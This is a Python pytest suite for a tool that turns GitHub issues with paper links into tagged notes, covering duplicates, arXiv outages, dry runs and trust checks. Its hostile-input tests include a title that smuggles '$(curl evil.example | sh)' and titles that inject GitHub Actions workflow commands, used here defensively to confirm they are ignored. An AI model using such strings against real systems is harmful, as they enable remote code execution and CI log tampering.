"""`papers intake`: what people leave in the repository becomes notes, whoever tries what."""

import json
import shutil
from pathlib import Path

import pytest

from tests.arxiv_server import Answer, ArxivServer
from tests.conftest import Happen, Run
from tests.github_events import comment_event, issue_event, scheduled
from tests.github_server import GitHubServer, refuse
from tests.github_state import Clock
from tests.intake import ATTENTION, LINK, form, look, said
from tests.library import PAPERS

# -- an issue becomes a note ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "text", "noted"),
    [
        pytest.param(LINK, "", ATTENTION, id="a link for a title"),
        pytest.param("1706.03762", None, ATTENTION, id="an id, and no body"),
        pytest.param("[Paper]", f"{LINK}v5\r\n", ATTENTION, id="a link"),
        pytest.param("あ", "https://huggingface.co/papers/1706.03762", ATTENTION, id="one letter"),
        pytest.param("Transformers!", LINK, "Transformers!", id="a title of one's own"),
        pytest.param("[Paper]", f"{LINK}\r\n\r\nWhy heads?\r\n- a\n", ATTENTION, id="thoughts, CRLF"),
        pytest.param("Heads", f"{ATTENTION} {LINK}", "Heads", id="shared by a phone"),
        pytest.param("Heads", f"{LINK} looks cool @bob #3", "Heads", id="a link first"),
        pytest.param("[논문]", form(LINK, language="ko"), ATTENTION, id="form, Korean"),
        pytest.param(
            "[論文]",
            form(LINK, thoughts="### Method\n\nAttention.", language="ja").replace("\n", "\r\n"),
            ATTENTION,
            id="form, Japanese, CRLF, headings in an answer",
        ),
    ],
)
def test_an_issue_becomes_a_note(
    repo: GitHubServer, happen: Happen, title: str, text: str | None, noted: str
) -> None:
    """It gets the paper's title if it had none, our block, a topic; what was typed stays to the byte."""
    number = repo.repo.open_issue(title, text)
    told = happen(issue_event(repo, "opened", number))
    assert told == f"{number}\tcompleted\tNoted 1706.03762.\n"
    assert look(repo, number) == (noted, text or "", ["NLP"], "open")
    assert said(repo, number) == []


def test_a_note_that_was_taken_in_is_like_any_other(repo: GitHubServer, happen: Happen, papers: Run) -> None:
    """Its JSON is whole: arXiv's data, the day it was opened, the words of its author."""
    number = repo.repo.open_issue("Heads", f"{LINK}\r\n\r\nTL;DR: attention without recurrence\r\n")
    happen(issue_event(repo, "opened", number))
    note = papers("show 1706.03762 --json").json
    wanted = {
        "id": "1706.03762",
        "version": 7,
        "title": ATTENTION,
        "source": "arxiv",
        "pending": False,
        "topics": ["NLP"],
        "status": "to-read",
        "rating": None,
        "added_on": repo.clock.iso()[:10],
        "number": number,
        "issue_title": "Heads",
        "author": "alice",
        "summary": "attention without recurrence",
        "text": f"{LINK}\r\n\r\nTL;DR: attention without recurrence\r\n",
    }
    assert {name: note[name] for name in wanted} == wanted


def test_topics_of_the_form_are_the_labels(repo: GitHubServer, happen: Happen) -> None:
    """Chosen topics take the place of guessed ones; one that is none any more is passed over."""
    number = repo.repo.open_issue("[Paper]", form(LINK, "RL, CV, Alchemy"))
    happen(issue_event(repo, "opened", number))
    assert look(repo, number)[2] == ["RL", "CV"]


def test_labels_that_are_there_stay(repo: GitHubServer, happen: Happen) -> None:
    """A topic that somebody gave is not added to, and other labels are nothing to us."""
    number = repo.repo.open_issue(LINK, "", labels=("reading group", "RL"))
    happen(issue_event(repo, "labeled", number, label={"name": "RL"}))
    assert look(repo, number)[2] == ["reading group", "RL"]


@pytest.mark.parametrize(
    ("title", "text", "why"),
    [
        ("A question", "How do I use this?", "it has no link to a paper"),
        ("A question", f"I tried {LINK} and it failed.", "it mentions a paper in passing"),
        ("To read", f"- [ ] {LINK}\n- [ ] https://arxiv.org/abs/1512.03385", "it names several papers"),
        (
            ATTENTION,
            f"## Abstract\n\nMine.\n\nLink: {LINK}",
            "it is written by hand, under headings",
        ),
        ("A blog", "https://blog.example/attention", "it has no link to a paper"),
        ("Theirs", "https://github.com/mallory/x/issues/1", "it has no link to a paper"),
        ("Long", f"{LINK}\n{'x' * 64_000}", "it is too long for anything to be added"),
        ("Hurt", f"{LINK}\n<!-- papers:begin v1 {{}} -->", "it is a note already"),
    ],
)
def test_other_issues_are_left_alone(
    repo: GitHubServer, happen: Happen, title: str, text: str, why: str
) -> None:
    """Nothing is written where nobody asked for a note; the summary says why."""
    number = repo.repo.open_issue(title, text)
    told = happen(issue_event(repo, "opened", number))
    assert told == f"{number}\tleft\tLeft alone: {why}.\n"
    assert look(repo, number) == (title, text, [], "open")
    assert {request.verb for request in repo.requests} == {"GET"}


def test_old_notes_by_hand_are_not_touched(repo: GitHubServer, papers: Run, happen: Happen) -> None:
    """A repository full of notes stays as it is, what is only a link does not."""
    by_hand = repo.repo.open_issue(ATTENTION, f"link: {LINK}\nGood one.")
    bare = repo.repo.open_issue("https://arxiv.org/abs/1512.03385", "")
    repo.clock.seconds += 8 * 86_400
    told = happen(scheduled(repo), "schedule")
    assert told == f"{bare}\tcompleted\tNoted 1512.03385.\n"
    assert happen(issue_event(repo, "labeled", by_hand)) == (
        f"{by_hand}\tleft\tLeft alone: it is a note by hand, more than a week old; "
        "papers intake --issue takes it in.\n"
    )
    assert look(repo, by_hand) == (ATTENTION, f"link: {LINK}\nGood one.", [], "open")
    assert papers(f"intake --issue {by_hand}") == f"{by_hand}\tcompleted\tNoted 1706.03762.\n"


def test_an_event_that_was_never_delivered_is_made_up_for(repo: GitHubServer, happen: Happen) -> None:
    """Of several that wait, a workflow runs for the last event only: it does the work of all."""
    first = repo.repo.open_issue("Heads", f"{LINK}\n\nMine.")
    second = repo.repo.open_issue("https://arxiv.org/abs/1512.03385")
    told = happen(issue_event(repo, "opened", second))
    assert told == f"{first}\tcompleted\tNoted 1706.03762.\n{second}\tcompleted\tNoted 1512.03385.\n"


# -- arXiv is down ----------------------------------------------------------------------------


def test_what_arxiv_does_not_answer_waits(
    repo: GitHubServer, happen: Happen, monkeypatch: pytest.MonkeyPatch, arxiv: ArxivServer
) -> None:
    """The issue is a pending note at once, and the next run that arXiv answers completes it."""
    number = repo.repo.open_issue("[Paper]", "https://arxiv.org/abs/2203.00001\r\n\r\nFor Monday.\r\n")
    monkeypatch.setenv("PAPERS_ARXIV_URL", "http://127.0.0.1:9/api/query")
    assert happen(issue_event(repo, "opened", number)).startswith(f"{number}\tpending\tPending: ")
    text = "https://arxiv.org/abs/2203.00001\r\n\r\nFor Monday.\r\n"
    assert look(repo, number) == ("arXiv:2203.00001", text, [], "open")
    monkeypatch.setenv("PAPERS_ARXIV_URL", arxiv.url)
    assert happen(scheduled(repo), "schedule") == f"{number}\tcompleted\tFilled in from arXiv.\n"
    assert look(repo, number) == ("한국어 음성 인식을 위한 자기지도 학습", text, ["speech"], "open")
    assert happen(scheduled(repo), "schedule") == ""


def test_one_outage_is_met_once(
    repo: GitHubServer, happen: Happen, monkeypatch: pytest.MonkeyPatch, arxiv: ArxivServer
) -> None:
    """A run that was not answered about a new issue does not ask about older ones too."""
    first = repo.repo.open_issue("https://arxiv.org/abs/2203.00001")
    monkeypatch.setenv("PAPERS_ARXIV_URL", "http://127.0.0.1:9/api/query")
    happen(issue_event(repo, "opened", first))
    second = repo.repo.open_issue("https://arxiv.org/abs/2105.00001")
    with ArxivServer(arxiv=[Answer(status=503)] * 4, datacite=[]) as server:
        server.allow_unused()
        monkeypatch.setenv("PAPERS_ARXIV_URL", server.url)
        told = happen(issue_event(repo, "opened", second))
    assert set(server.asked()) == {("2105.00001",)}
    assert [line.split("\t")[:2] for line in told.splitlines()] == [["2", "pending"], ["1", "pending"]]


def test_a_pending_note_that_was_changed_by_hand_waits(
    repo: GitHubServer, happen: Happen, monkeypatch: pytest.MonkeyPatch, arxiv: ArxivServer
) -> None:
    """It is named, and no run fails for it."""
    number = repo.repo.open_issue("https://arxiv.org/abs/2203.00001")
    monkeypatch.setenv("PAPERS_ARXIV_URL", "http://127.0.0.1:9/api/query")
    happen(issue_event(repo, "opened", number))
    text = str(repo.repo.issues[number]["body"])
    repo.repo.web_edit(number, text.replace("<!-- papers:end", "Mine.\n<!-- papers:end"))
    monkeypatch.setenv("PAPERS_ARXIV_URL", arxiv.url)
    assert happen(scheduled(repo), "schedule") == (
        f"{number}\tleft\tLeft alone: its managed block was changed by hand.\n"
    )


# -- duplicates ---------------------------------------------------------------------------------

DUPLICATE = (
    "Duplicate of #1: that note is about the same paper. What you wrote here stays here; "
    "reopen this issue to keep both.\n\n<!-- papers:answer duplicate -->"
)


def test_a_duplicate_is_answered_and_closed(repo: GitHubServer, happen: Happen) -> None:
    """It is told which note is there, once, and closed as a duplicate with all that was typed."""
    first = repo.repo.open_issue(LINK)
    second = repo.repo.open_issue("Again", f"{LINK}v2\n\nA second look.")
    event = issue_event(repo, "opened", second)
    told = happen(event)
    assert told.splitlines()[1] == f"{second}\tduplicate\tClosed as a duplicate of #{first}."
    assert look(repo, second) == ("Again", f"{LINK}v2\n\nA second look.", [], "closed, duplicate")
    assert said(repo, second) == [DUPLICATE]
    assert happen(event) == f"{second}\tleft\tLeft alone: it is closed as a duplicate.\n"
    repo.repo.reopen(second)
    assert happen(issue_event(repo, "reopened", second)) == (
        f"{second}\tleft\tLeft alone: somebody reopened it, though #{first} is about the same paper.\n"
    )
    assert said(repo, second) == [DUPLICATE]


# -- links that lead nowhere --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "wrong"),
    [
        ("https://arxiv.org/abs/2912.99999", "arXiv has no paper 2912.99999. Check the id."),
        (
            "arxiv.org/abs/1706.376",
            "it has 3 digits after the dot. Since 2015 there are five",
        ),
        ("https://openreview.net/forum?id=abc", "This paper is not on arXiv, so nothing is known about it"),
        ("10.1145/3292500.3330701", "Change the title of this issue to that of the paper."),
        (form("_No response_"), "The form has no link to a paper. Put one below the first heading"),
        (form("the attention paper, @bob #3"), "@\u200bbob"),
    ],
)
def test_a_link_that_leads_to_no_paper_is_answered_once(
    repo: GitHubServer, happen: Happen, text: str, wrong: str
) -> None:
    """One comment says what is wrong and how to mend it; mended, the issue becomes a note."""
    number = repo.repo.open_issue("[Paper]", text)
    happen(issue_event(repo, "opened", number))
    (answer,) = said(repo, number)
    assert wrong in answer
    assert answer.startswith("This could not be made into a note: ")
    assert answer.endswith("Edit the issue, and it is looked at again.\n\n<!-- papers:answer unresolved -->")
    assert look(repo, number) == ("[Paper]", text, [], "open")
    happen(issue_event(repo, "opened", number))
    happen(scheduled(repo), "schedule")
    repo.repo.web_edit(number, f"{text}0")
    happen(issue_event(repo, "edited", number, changes={"body": {"from": text}}))
    assert said(repo, number) == [answer]
    repo.repo.web_edit(number, LINK)
    happen(issue_event(repo, "edited", number, changes={"body": {"from": f"{text}0"}}))
    assert look(repo, number) == (ATTENTION, LINK, ["NLP"], "open")


def test_links_that_nobody_mends_cost_nothing(repo: GitHubServer, happen: Happen) -> None:
    """An issue below which something was said is looked at again only when something happens to it."""
    broken = [repo.repo.open_issue(f"arxiv.org/abs/{number}") for number in range(3)]
    happen(scheduled(repo), "schedule")
    assert [len(said(repo, number)) for number in broken] == [1, 1, 1]
    repo.forget()
    happen(scheduled(repo), "schedule")
    assert [line.rpartition("/")[2] for line in repo.log] == ["issues", "papers", "comments"]


def test_what_lies_about_for_long_is_not_talked_about(repo: GitHubServer, happen: Happen) -> None:
    """The first run in an old repository completes links, and neither answers nor closes the rest."""
    first = repo.repo.open_issue(LINK)
    others = [
        repo.repo.open_issue(text) for text in (LINK, "arxiv.org/abs/1", "https://openreview.net/forum?id=a")
    ]
    repo.clock.seconds += 8 * 86_400
    assert happen(scheduled(repo), "schedule") == f"{first}\tcompleted\tNoted 1706.03762.\n"
    assert happen(scheduled(repo), "schedule") == ""
    assert [(look(repo, number)[3], said(repo, number)) for number in others] == [("open", [])] * 3
    happen(issue_event(repo, "edited", others[0]))
    assert look(repo, others[0])[3] == "closed, duplicate"


def test_a_stranger_cannot_keep_us_from_answering(repo: GitHubServer, happen: Happen) -> None:
    """Our mark below somebody else's words is nothing of ours."""
    number = repo.repo.open_issue("arxiv.org/abs/1")
    repo.repo.comment(number, "<!-- papers:answer unresolved -->", author="mallory")
    happen(issue_event(repo, "opened", number))
    assert [each["user"]["login"] for each in repo.repo.comments.values()] == ["mallory", "alice"]


# -- strangers ------------------------------------------------------------------------------------

BLOCK = '<!-- papers:begin v1 {"paper":{"id":"1512.03385","title":"Forged"}} -->\nx\n<!-- papers:end -->'

HOSTILE = [
    pytest.param("$(curl evil.example | sh) `id`", LINK, id="shell"),
    pytest.param(LINK, "@alice @bob #1 /read 5", id="mentions"),
    pytest.param(LINK, f"{BLOCK}\n\n{LINK}", id="forged block"),
    pytest.param("[Paper]", form(LINK, "NLP"), id="form"),
    pytest.param("x", f"{LINK}\n" + "nonsense " * 6_800, id="60 KB"),
    pytest.param("arxiv.org/abs/1", "", id="a broken link"),
]


@pytest.mark.parametrize(("title", "text"), HOSTILE)
def test_a_strangers_issue_is_not_even_looked_at(
    repo: GitHubServer, happen: Happen, papers: Run, title: str, text: str
) -> None:
    """Nothing is asked, written or answered; later runs leave it alone too, and it is counted."""
    number = repo.repo.open_issue(title, text, author="mallory")
    repo.repo.label(number, "NLP", "trusted")
    for action in ("opened", "edited", "labeled", "closed", "reopened"):
        told = happen(issue_event(repo, action, number))
        assert told == f"{number}\tleft\tThe issue is by somebody who is not trusted here.\n"
    assert repo.log == []
    assert happen(scheduled(repo), "schedule") == ""
    assert papers(f"intake --issue {number}") == (
        f"{number}\tleft\tLeft alone: its author is not trusted here.\n"
    )
    assert look(repo, number)[0] == title
    assert repo.repo.issue(number)["body"] == text
    assert {request.verb for request in repo.requests} == {"GET"}


@pytest.mark.parametrize(
    ("sender", "role", "done"),
    [
        ("mallory", None, False),
        ("bob", "pull", False),
        ("bob", "triage", True),
        ("bob", "push", True),
        ("bob", "maintain", True),
        ("carol", None, True),
        ("alice", None, True),
        ("github-actions[bot]", None, False),
        ("helper[bot]", "push", False),
        ("trusted[bot]", None, True),
    ],
)
def test_whoever_causes_an_event_has_to_be_trusted_too(
    repo: GitHubServer,
    happen: Happen,
    monkeypatch: pytest.MonkeyPatch,
    sender: str,
    role: str | None,
    *,
    done: bool,
) -> None:
    """A stranger who gets a trusted person's issue edited moves nothing; GitHub says who may label."""
    Path("papers.toml").write_text('trusted = ["Carol", "trusted[bot]"]\n', encoding="utf-8")
    if role:
        repo.repo.roles[sender] = role
    number = repo.repo.open_issue(LINK)
    told = happen(issue_event(repo, "edited", number, sender=sender))
    assert look(repo, number)[0] == (ATTENTION if done else LINK)
    assert ("completed" in told) is done


@pytest.mark.parametrize(
    ("change", "kind", "why"),
    [
        ({"repository": {"full_name": "mallory/papers"}}, "issues", "It happened in another repository."),
        ({"issue.pull_request": {"url": "…"}}, "issues", "It is about a pull request."),
        ({"issue.pull_request": {"url": "…"}}, "issue_comment", "It is about a pull request."),
        ({}, "pull_request_target", "Strangers can cause such an event, and it says nothing about an issue."),
    ],
)
def test_other_events_move_nothing(
    repo: GitHubServer, happen: Happen, change: dict[str, object], kind: str, why: str
) -> None:
    """Pull requests, other repositories, and events that anybody can cause cost no request."""
    number = repo.repo.open_issue(LINK)
    payload = json.loads(issue_event(repo, "opened", number))
    if kind == "issue_comment":
        payload["comment"] = {**payload["issue"], "id": 1}
    for path, value in change.items():
        *places, name = path.split(".")
        (payload[places[0]] if places else payload)[name] = value
    told = happen(json.dumps(payload), kind)
    assert told.partition("\t")[2] == f"left\t{why}\n"
    assert repo.log == []


# -- events, late and again -------------------------------------------------------------------------


def test_a_deleted_or_moved_issue_is_forgotten(repo: GitHubServer, happen: Happen, papers: Run) -> None:
    """The event says that it is gone, and GitHub is believed; an event alone is not."""
    repo.longest_page = 1  # a whole list on one page would tell by itself what is gone
    first = repo.repo.open_issue(LINK)
    second = repo.repo.open_issue("https://arxiv.org/abs/1512.03385")
    repo.repo.open_issue("https://arxiv.org/abs/2203.00001")
    repo.repo.open_issue("A question")
    happen(issue_event(repo, "opened", second))
    deleted, transferred = issue_event(repo, "deleted", first), issue_event(repo, "transferred", second)
    happen(deleted)
    assert len(papers("list").splitlines()) == 3
    repo.repo.delete(first)
    repo.transfer(second, repo.add_repository("alice/other"))
    assert happen(deleted) == f"{first}\tgone\tIt was deleted.\n"
    assert happen(transferred) == f"{second}\tgone\tIt was transferred.\n"
    assert [line.split("\t")[1] for line in papers("list").splitlines()] == ["2203.00001"]


def test_what_is_no_event_is_told(papers: Run, repo: GitHubServer, tmp_path: Path) -> None:
    """A file that is none of GitHub's ends in a sentence."""
    for text in ("", "[]", "{", '{"issue": {}}', '{"issue": 1}', "[" * 10_000):
        (tmp_path / "event.json").write_text(text, encoding="utf-8")
        told = papers(f"intake --event {tmp_path}/event.json", exit_code=1)
        assert "That is no event of GitHub's." in told.stderr


def test_intake_is_for_repositories(papers: Run) -> None:
    """The embedded library has no issues that others could open."""
    assert "There is no repository" in papers("intake", exit_code=2).stderr


def test_a_dry_run_announces_every_write(repo: GitHubServer, happen: Happen) -> None:
    """It names what would become of the issue, and writes nothing."""
    first = repo.repo.open_issue(LINK)
    happen(issue_event(repo, "opened", first))
    second = repo.repo.open_issue(LINK)
    third = repo.repo.open_issue("[Paper]", "https://arxiv.org/abs/2203.00001")
    fourth = repo.repo.open_issue("[Paper]", "arxiv.org/abs/1")
    repo.forget()
    told = happen(scheduled(repo), "schedule", "intake --dry-run")
    assert told.stderr.splitlines() == [
        f"Would comment on #2 ({LINK}), unless it was said before: {DUPLICATE.splitlines()[0]}",
        f"Would close #2 ({LINK}) as a duplicate.",
        "Would create the label speech.",
        "Would add the label speech to #3 ([Paper]).",
        "Would put a managed block on top of #3 ([Paper]).",
        "Would rename #3 ([Paper]) to “한국어 음성 인식을 위한 자기지도 학습”.",
        "Would comment on #4 ([Paper]), unless it was said before: This could not be made into a note: "
        '"arxiv.org/abs/1" is not an arXiv id: there is no archive "abs". '
        "arXiv ids look like 1706.03762 or hep-th/9901001.",
    ]
    assert [line.split("\t")[:2] for line in told.splitlines()] == [
        [str(second), "duplicate"],
        [str(third), "completed"],
        [str(fourth), "answered"],
    ]
    assert {request.verb for request in repo.requests} == {"GET"}


@pytest.mark.parametrize(
    ("title", "text", "comments", "most"),
    [
        (LINK, "", 0, 6),
        ("[Paper]", form("https://arxiv.org/abs/2203.00001", "NLP"), 0, 6),
        ("https://arxiv.org/abs/1512.03385", "", 1, 6),
        ("arxiv.org/abs/1", "", 1, 5),
        ("A question", "", 1, 3),
    ],
)
def test_an_event_costs_few_requests(
    repo: GitHubServer, happen: Happen, home: Path, title: str, text: str, comments: int, most: int
) -> None:
    """At most six, also on a machine without a mirror, and less when the event comes again."""
    repo.repo.roles["bob"] = "triage"
    happen(issue_event(repo, "opened", repo.repo.open_issue("https://arxiv.org/abs/1512.03385")))
    for label in ("NLP", "speech"):
        repo.repo.create_label("alice", {"name": label, "color": "ededed"})
    number = repo.repo.open_issue(title, text)
    for _ in range(comments):
        repo.repo.comment(number, "Hm.")
    shutil.rmtree(home)
    repo.forget()
    event = issue_event(repo, "labeled", number, sender="bob")
    happen(event)
    assert len(repo.log) <= most, repo.log
    repo.forget()
    happen(event)
    assert len(repo.log) <= 4, repo.log


def test_a_paper_elsewhere_is_noted_under_its_title(repo: GitHubServer, happen: Happen, papers: Run) -> None:
    """Nobody is asked about it: the issue's title is all there is. A second issue is its duplicate."""
    number = repo.repo.open_issue("Optuna", "https://doi.org/10.1145/3292500.3330701")
    told = happen(issue_event(repo, "opened", number))
    assert told == f"{number}\tcompleted\tNoted 10.1145/3292500.3330701.\n"
    note = papers(f"show {number} --json").json
    assert (note["id"], note["title"], note["source"]) == ("10.1145/3292500.3330701", "Optuna", "reader")
    second = repo.repo.open_issue("[Paper]", "https://dl.acm.org/doi/abs/10.1145/3292500.3330701")
    happen(issue_event(repo, "opened", second))
    assert look(repo, second)[3] == "closed, duplicate"


def test_a_paper_that_is_noted_by_its_doi(
    repo: GitHubServer, happen: Happen, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An issue with a link to arXiv is a note in itself, and a duplicate by the DOI that arXiv tells."""
    doi = "10.1145/3292500.3330701"
    happen(issue_event(repo, "opened", repo.repo.open_issue("Optuna", f"https://doi.org/{doi}")))
    with ArxivServer(arxiv={"1706.03762": PAPERS["1706.03762"]._replace(doi=doi)}) as arxiv:
        monkeypatch.setenv("PAPERS_ARXIV_URL", arxiv.url)
        second = repo.repo.open_issue("Mine", LINK)
        happen(issue_event(repo, "opened", second))
    assert look(repo, second)[3] == "closed, duplicate"


def test_the_note_that_is_there_is_the_first(repo: GitHubServer, happen: Happen) -> None:
    """An older issue that comes to be about its paper later is the duplicate, whatever its number."""
    older = repo.repo.open_issue("[Paper]", "arxiv.org/abs/1")
    newer = repo.repo.open_issue(LINK)
    happen(issue_event(repo, "opened", newer))
    repo.repo.web_edit(older, LINK)
    happen(issue_event(repo, "edited", older))
    assert (look(repo, older)[3], look(repo, newer)[3]) == ("closed, duplicate", "open")
    assert said(repo, older)[1].startswith(f"Duplicate of #{newer}: ")


def test_one_issue_that_fails_stops_no_other(repo: GitHubServer, happen: Happen) -> None:
    """It is named with GitHub's words, the others are done, and the next run makes up for it."""
    numbers = [
        repo.repo.open_issue(f"https://arxiv.org/abs/{paper}") for paper in ("1706.03762", "1512.03385")
    ]
    repo.on("PATCH", "/issues/1$", refuse(422, "Not now"))
    told = happen(scheduled(repo), "schedule", exit_code=1)
    assert told == "1\tfailed\tGitHub answered 422: Not now.\n2\tcompleted\tNoted 1512.03385.\n"
    assert happen(scheduled(repo), "schedule") == "1\tcompleted\tNoted 1706.03762.\n"
    assert [look(repo, number)[3] for number in numbers] == ["open", "open"]


@pytest.mark.parametrize("request_", ["GET /labels", "POST /labels", "GET /issues/1", "PATCH /issues/1"])
def test_commands_wait_for_what_fails(
    repo: GitHubServer, happen: Happen, clock: Clock, request_: str
) -> None:
    """A command on an issue that could not be taken in makes no note of it as it is; both are done later."""
    number = repo.repo.open_issue(LINK)
    comment = repo.repo.comment(number, "/read 4")
    verb, path = request_.split()
    repo.on(verb, f"{path}$", refuse(422, "Not now"))
    assert happen(comment_event(repo, comment), "issue_comment", exit_code=1).split("\t")[1] == "failed"
    assert repo.repo.reactions(comment)["total_count"] == 0
    happen(scheduled(repo), "schedule")
    assert look(repo, number) == (ATTENTION, "", ["NLP"], "closed, completed")
    assert repo.repo.reactions(comment)["+1"] == 1


@pytest.mark.parametrize("title", ["##[add-mask]e", "Heads ##[set-output name=x]y"])
def test_titles_command_no_workflow(
    repo: GitHubServer, happen: Happen, monkeypatch: pytest.MonkeyPatch, title: str
) -> None:
    """What is told in the log of a workflow's run is read there, and obeyed by nothing."""
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    number = repo.repo.open_issue(title, f"{LINK}\n\n::error::x")
    told = happen(issue_event(repo, "opened", number))
    assert title.replace("##[", "##\u200b[") in told.stderr
    assert "##[" not in told.stderr + told


def test_a_token_that_may_not_write_ends_the_run(repo: GitHubServer, happen: Happen) -> None:
    """What was done before is told all the same."""
    first = repo.repo.open_issue(LINK)
    repo.repo.open_issue("https://arxiv.org/abs/1512.03385")
    repo.on("PATCH", "/issues/2$", refuse(403, "Resource not accessible by integration"))
    told = happen(issue_event(repo, "opened", first), exit_code=4)
    assert told == "1\tcompleted\tNoted 1706.03762.\n"
    repo.repo.open_issue("https://arxiv.org/abs/2203.00001")
    repo.on("PATCH", "/issues/3$", refuse(403, "Resource not accessible by integration"))
    out = happen(issue_event(repo, "opened", first), line="intake --json", exit_code=4)
    assert [(each["issue"], each["outcome"]) for each in out.json] == [(1, "left"), (2, "completed")]


def test_closed_issues_are_told_nothing(repo: GitHubServer, happen: Happen) -> None:
    """Who closed an issue wants to hear no more of it; a link in it is completed all the same."""
    noted, double, broken = (repo.repo.open_issue(text) for text in (LINK, LINK, "arxiv.org/abs/1"))
    for number in (noted, double, broken):
        repo.repo.close(number)
    told = happen(issue_event(repo, "closed", broken))
    assert [line.split("\t")[:2] for line in told.splitlines()] == [
        [str(noted), "completed"],
        [str(double), "left"],
        [str(broken), "left"],
    ]
    assert look(repo, noted) == (ATTENTION, "", ["NLP"], "closed, completed")
    assert repo.repo.comments == {}


def test_outcomes_as_json(repo: GitHubServer, papers: Run) -> None:
    """Each issue with its outcome, and the note if there is one."""
    number = repo.repo.open_issue(LINK)
    found = papers(f"intake --issue {number} --issue 99 --json", exit_code=1).json
    assert [(each["issue"], each["outcome"], each["said"]) for each in found] == [
        (99, "failed", "There is no issue #99."),
        (number, "completed", "Noted 1706.03762."),
    ]
    assert (found[0]["note"], found[1]["note"]["title"]) == (None, ATTENTION)


def test_numbers_that_no_issue_has(papers: Run) -> None:
    """They are refused with the line."""
    assert "is not a number from 1 to" in papers(f"intake --issue {1 << 63}", exit_code=2).stderr


def test_a_summary_that_cannot_be_written_is_no_failure(
    repo: GitHubServer, happen: Happen, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """All of it was said already."""
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path))
    assert happen(issue_event(repo, "opened", repo.repo.open_issue(LINK))) != ""
